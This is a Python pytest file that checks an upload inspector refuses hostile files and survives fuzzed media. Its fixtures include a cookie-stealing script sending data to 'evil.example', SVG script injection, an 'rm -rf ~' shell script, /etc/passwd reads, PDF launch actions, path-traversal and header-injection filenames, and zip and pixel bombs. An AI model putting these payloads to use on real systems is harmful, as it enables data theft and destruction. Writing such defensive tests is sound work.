"""Files that somebody made to do harm: each is refused in words, or kept as what is only ever saved. Source: facts/speech §4, facts/reliability §5."""

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path

import pytest

from clinic.file.allowed import BEGINS_WITH, KNOWN
from clinic.file.media import Form, Purpose, Unfit
from tests.support import made_files as made
from web.media import inspecting, words

MP3 = made.recording("mp3", 3, "libmp3lame")
WEBM = made.recording("webm", 3)
PAGE = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
MHTML = b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + PAGE
JAR = made.archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttp://127.0.0.1:9/evil.ts\n"
CONCAT = b"ffconcat version 1.0\nfile '/etc/passwd'\n"
REFUSED = {
    "a page": (PAGE, "x.txt", "a web page"),
    "a page by its name": (b"Hello", "x.html", "“.html”"),
    "a page behind blanks": (b"\xef\xbb\xbf \r\n\t <ScRiPt>alert(1)</script>", "x.txt", "a web page"),
    "a page in two bytes a letter": (PAGE.decode().encode("utf-16"), "x.txt", "a web page"),
    "a page of XML": (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>', "x", "a web page"),
    "a drawing": (SVG, "x.png", "a web page"),
    "a drawing by its name": (made.picture(), "x.svg", "“.svg”"),
    "an archive of a page": (MHTML, "x.txt", "an e-mail"),
    "a film with programs": (made.swf(), "x.jpg", "a kind of file that is not known here"),
    "a program of Windows": (made.EXE, "photo.jpg", "a program"),
    "a program by its last name": (made.picture(), "photo.jpg.exe", "“.exe”"),
    "a program of Linux": (made.ELF, "x.pdf", "a program"),
    "a program in letters": (b"#!/bin/sh\nrm -rf ~\n", "x.txt", "a program"),
    "a link to elsewhere": (b"[InternetShortcut]\nURL=file:///etc/passwd\n", "x.txt", "a program"),
    "a program of Java": (JAR, "x.zip", "a program"),
    "a picture that is a program of Java": (made.moving() + JAR, "x.gif", "two things at once"),
    "a photo with an archive behind it": (made.picture() + made.archive({"a": b"b" * 100}), "x.jpg", "two things at once"),
    "a sound with an archive behind it": (WEBM + JAR, "x.webm", "two things at once"),
    "a text with bytes behind it": (b"Hello\n" * 60_000 + made.EXE, "x.txt", "two things at once"),
    "a list of sounds": (PLAYLIST, "x.m4a", "a list of recordings that are elsewhere"),
    "a list of files": (CONCAT, "b.m4a", "a list of recordings that are elsewhere"),
    "a list by its name": (b"song", "x.m3u8", "“.m3u8”"),
    "an archive": (made.archive({"a.txt": b"a"}), "x.zip", "a ZIP archive"),
    "a Word document with macros": (made.docx("document.macroEnabled.main+xml"), "x.docx", "macros"),
    "a Word document with hidden macros": (made.docx(**{"word/vbaProject.bin": b"x"}), "x.docx", "macros"),
    "an old Word document with macros": (made.old_word("WordDocument", "Macros", "_VBA_PROJECT"), "x.doc", "macros"),
    "an installer": (made.old_word("Property"), "x.doc", "does not take"),
    "pixels without end": (made.pixel_bomb(), "x.png", "900 million pixels; 50 million is the most"),
    "nothing": (b"", "x.jpg", "empty"),
    "a photo that is cut": (made.picture("JPEG", (2000, 1500), quality=95)[:20_000], "x.jpg", "cannot be read"),
    "a photo that is none": (b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(5000), "x.jpg", "cannot be read"),
    "a photo of an iPhone that is none": (made.heic(), "x.heic", "cannot be read"),
    "a PDF that is none": (b"%PDF-1.7\n" + random.Random(1).randbytes(5000), "x.pdf", "cannot be read"),
    "a recording that is none": (WEBM[:60] + random.Random(1).randbytes(9000), "x.webm", "cannot be read"),
    "a recording without its end": (WEBM[:40], "x.webm", "cannot be read"),
    "bytes": (random.Random(2).randbytes(4000).replace(b"\xff", b"\xfe"), "x.dat", "not known here"),
}


@pytest.fixture(scope="module", autouse=True)
def ended() -> Iterator[None]:
    yield
    inspecting.close()


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_refused_is_refused_in_words(what: str) -> None:
    content, name, expected = REFUSED[what]
    with pytest.raises(Unfit) as refused:
        inspecting.inspect(made.Bytes(content), name, Purpose.FILE, BEGINS_WITH)
    assert expected in refused.value.words
    assert refused.value.words not in (words.CRASHED, words.SLOW), "refused for a reason, not for want of one"
    assert refused.value.words.endswith("."), refused.value.words


def test_archives_are_taken_where_an_administrator_says_so_and_bombs_are_not() -> None:
    assert inspecting.inspect(made.Bytes(made.archive({"a.txt": b"a"})), "x.zip", Purpose.FILE, KNOWN).inspection.media_type == "application/zip"
    with pytest.raises(Unfit, match="unpacks to far more"):
        inspecting.inspect(made.Bytes(made.zip_bomb()), "x.zip", Purpose.FILE, KNOWN)
    with pytest.raises(Unfit, match="a program"):
        inspecting.inspect(made.Bytes(JAR), "x.zip", Purpose.FILE, KNOWN)


@pytest.mark.parametrize("action", ["/S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\))", "/S /Launch /F (/bin/sh)", "/S /URI /URI (http://127.0.0.1:9/)"])
def test_a_pdf_that_would_do_something_is_drawn_and_does_nothing(action: str) -> None:
    found = inspecting.inspect(made.Bytes(made.pdf(1, action)), "x.pdf", Purpose.FILE, BEGINS_WITH)
    assert (found.inspection.form, found.inspection.shown_type) == (Form.PDF, "image/jpeg")
    assert b"JavaScript" not in found.pictures["shown"] and found.pictures["shown"].startswith(b"\xff\xd8\xff")


def test_a_sound_behind_a_tag_longer_than_what_is_looked_at_is_measured() -> None:
    found = inspecting.inspect(made.Bytes(made.with_long_tag(MP3)), "x.mp3", Purpose.VOICE, BEGINS_WITH, 120_500).inspection
    assert found.media_type == "audio/mpeg" and found.duration_ms is not None and abs(found.duration_ms - 3000) < 120


def test_no_name_leads_anywhere(tmp_path: Path) -> None:
    for name in ("../../../etc/passwd", "C:\\Windows\\x.jpg", "a\0b.jpg", "‮gpj.exe", "x" * 4000 + ".jpg", "", ".", "..", "x.\r\nSet-Cookie: a=b"):
        try:
            assert inspecting.inspect(made.Bytes(made.picture()), name, Purpose.FILE, BEGINS_WITH).inspection.media_type == "image/jpeg"
        except Unfit as unfit:
            assert "\r" not in unfit.words and "exe" in name
    assert not list(tmp_path.iterdir())


def test_every_kind_of_the_list_is_known_to_the_signs_or_the_readers() -> None:
    from web.media import signs

    by_signs = {kind.media_type for kind in signs.KINDS.values()} | {one for kind in signs.KINDS.values() if kind.reader == "sound" for one in kind.magic}
    unknown = set(KNOWN) - by_signs
    assert all(one.startswith("application/vnd.o") or "ms-" in one or one == "application/msword" for one in unknown), unknown


# Files that nobody thought of: good ones, changed at random.

SEEDS = {
    "x.jpg": made.photo_with_place(), "x.png": made.picture("PNG"), "x.gif": made.moving(5), "x.webp": made.picture("WEBP"),
    "x.tiff": made.picture("TIFF", (80, 60)),
    "x.avif": made.picture("AVIF", (80, 60)), "x.pdf": made.pdf(2), "x.webm": made.recording("webm", 2, "libopus", "libvpx"), "x.ogg": made.recording("ogg", 3),
    "x.mp4": made.recording("mp4", 2, "aac", "libx264"), "x.mp3": MP3, "x.wav": made.recording("wav", 1, "pcm_s16le", rate=8000), "x.docx": made.docx(),
    "x.doc": made.old_word("WordDocument"), "x.flac": made.recording("flac", 2, "flac", rate=16_000), "x.m4a": made.recording("ipod", 2, "aac"),
    "browser.webm": made.recording("webm", 2, "libopus", "libvpx", by_browser=True), "browser.mp4": made.recording("mp4", 2, "aac", "libx264", by_browser=True),
}


def changed(content: bytes, chance: random.Random) -> bytes:
    """Return a file with some bytes of it changed, cut out, said twice or swapped; mostly near its beginning, where headers are."""
    made_anew = bytearray(content)
    for _ in range(chance.choice((1, 2, 8, 40))):
        reach = min(len(made_anew), chance.choice((64, 1024, 10**9)))
        at = chance.randrange(reach)
        match chance.randrange(5):
            case 0:
                made_anew[at] = chance.choice((0, 0x7F, 0x80, 0xFF, chance.randrange(256)))
            case 1:
                made_anew[at : at + 4] = chance.choice((b"\0\0\0\0", b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\x80\0\0\0"))
            case 2:
                del made_anew[at : at + chance.randrange(1, 64)]
            case 3:
                made_anew[at:at] = made_anew[at : at + chance.randrange(1, 512)]
            case _:
                made_anew[at] ^= 1 << chance.randrange(8)
        if not made_anew:
            break
    return bytes(made_anew)


def look_at_changed(count: int, seed: int) -> dict[str, int]:
    """Look at that many changed files. Returns: how it went, counted."""
    went = {"taken": 0, "refused": 0, "ended": 0, "slow": 0}
    for number in range(count):
        chance = random.Random(seed * 1_000_000 + number)
        name = chance.choice(list(SEEDS))
        content = changed(SEEDS[name], chance)
        try:
            found = inspecting.inspect(made.Bytes(content), name, chance.choice(list(Purpose)), KNOWN, 120_500).inspection
            assert found.media_type in KNOWN
            went["taken"] += 1
        except Unfit as unfit:
            went[{words.CRASHED: "ended", words.SLOW: "slow"}.get(unfit.words, "refused")] += 1
    return went


def test_three_hundred_changed_files_end_nobody_but_those_who_read_them() -> None:
    went = look_at_changed(300, 1)
    assert went["taken"] > 20 and went["refused"] > 50, f"the control: {went}"
    assert went["ended"] + went["slow"] < 30, went
    assert inspecting.inspect(made.Bytes(made.picture()), "x.jpg", Purpose.FILE, BEGINS_WITH).inspection.shown


@pytest.mark.soak
def test_ten_thousand_changed_files_end_nobody_but_those_who_read_them() -> None:
    went = look_at_changed(10_000, 2)
    print(went)
    assert went["ended"] + went["slow"] < 500, went
    assert inspecting.inspect(made.Bytes(made.picture()), "x.jpg", Purpose.FILE, BEGINS_WITH).inspection.shown
